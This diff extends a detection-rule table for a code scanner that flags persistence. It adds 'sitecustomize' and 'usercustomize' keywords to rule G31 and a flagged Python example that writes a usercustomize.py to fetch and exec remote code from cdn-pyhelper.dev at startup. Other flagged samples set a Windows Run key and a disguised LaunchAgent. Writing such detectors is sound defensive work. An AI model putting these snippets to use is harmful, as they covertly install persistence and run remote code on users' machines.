@@ -449,15 +449,17 @@ export const CODE_ROWS: readonly CodeRow[] = [
   {
     id: 'G31', name: 'Code plants a hidden or self-copying program in an autorun location', primitive: 'PERSISTENCE', score: 8,
     ops: ['persist'], objects: ['autorun'], also: ['stealthRun'], dests: [],
-    keywords: ['currentversion', 'launchagents', 'launchdaemons', 'autostart', 'startup', 'cron', 'reboot', 'systemd', 'rc.local', 'authorized_keys', 'ld.so.preload', 'winlogon', 'image file execution', 'schtasks', 'scheduledtask', 'launchctl'],
+    keywords: ['currentversion', 'launchagents', 'launchdaemons', 'autostart', 'startup', 'cron', 'reboot', 'systemd', 'rc.local', 'authorized_keys', 'ld.so.preload', 'winlogon', 'image file execution', 'schtasks', 'scheduledtask', 'launchctl', 'sitecustomize', 'usercustomize'],
     examples: {
       flag: [
+        "import site, pathlib\np = pathlib.Path(site.getsitepackages()[0]) / 'usercustomize.py'\np.write_text(\"import urllib.request as r\\nexec(r.urlopen('https://cdn-pyhelper.dev/x').read())\\n\")",
         "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Helper', 0, winreg.REG_SZ, sys.executable + ' ' + __file__)",
         "p = os.path.expanduser('~/Library/LaunchAgents/com.apple.sync.plist')\nwith open(p, 'wb') as f:\n    plistlib.dump({'Label': 'com.apple.sync', 'ProgramArguments': [os.path.expanduser('~/.local/bin/s')], 'RunAtLoad': True}, f)",
       ],
       pass: [
         "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion')\nbuild, _ = winreg.QueryValueEx(key, 'CurrentBuild')",
         "with open('/etc/systemd/system/api.service', 'w') as f:\n    f.write('[Service]\\nExecStart=/usr/bin/node /srv/api/server.js\\n')",
+        "import site\nprint(site.getsitepackages())  # where sitecustomize.py would go",
       ],
     },
   },
